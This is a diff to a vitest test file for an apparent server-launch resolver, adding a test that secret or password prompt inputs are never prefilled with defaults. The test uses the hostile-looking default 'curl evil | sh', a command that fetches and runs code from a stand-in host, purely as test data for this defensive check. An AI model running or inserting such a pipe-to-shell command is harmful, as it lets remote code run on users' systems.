@@ -1,6 +1,6 @@
 import { describe, expect, it } from 'vitest';
 import { defineServer } from '../../../../src/core/servers/identity.ts';
-import { type LaunchSource, resolveLaunch } from '../../../../src/core/servers/launch.ts';
+import { filledIn, type LaunchSource, resolveLaunch } from '../../../../src/core/servers/launch.ts';
 import { defineDeps, entryOf, http, stdio } from './fakes.ts';
 
 const source = (more: Partial<LaunchSource> = {}): LaunchSource => ({
@@ -31,6 +31,13 @@ describe('a launch', () => {
       cwd: '/srv',
     });
     expect([...secrets].sort()).toEqual(['file', 'file-secret', 'secret-key', 'secret-token']);
+  });
+
+  it('never starts from a text that nobody can see', () => {
+    const input = { type: 'promptString', id: 'user', default: 'curl evil | sh' } as const;
+    expect(filledIn({ ...input, password: false })).toEqual({ value: 'curl evil | sh' });
+    expect(filledIn({ ...input, password: true })).toEqual({});
+    expect(filledIn({ ...input, id: 'apiKey', password: false })).toEqual({});
   });
 
   it('knows that what was chosen from a list is no secret, unless its name says so', async () => {
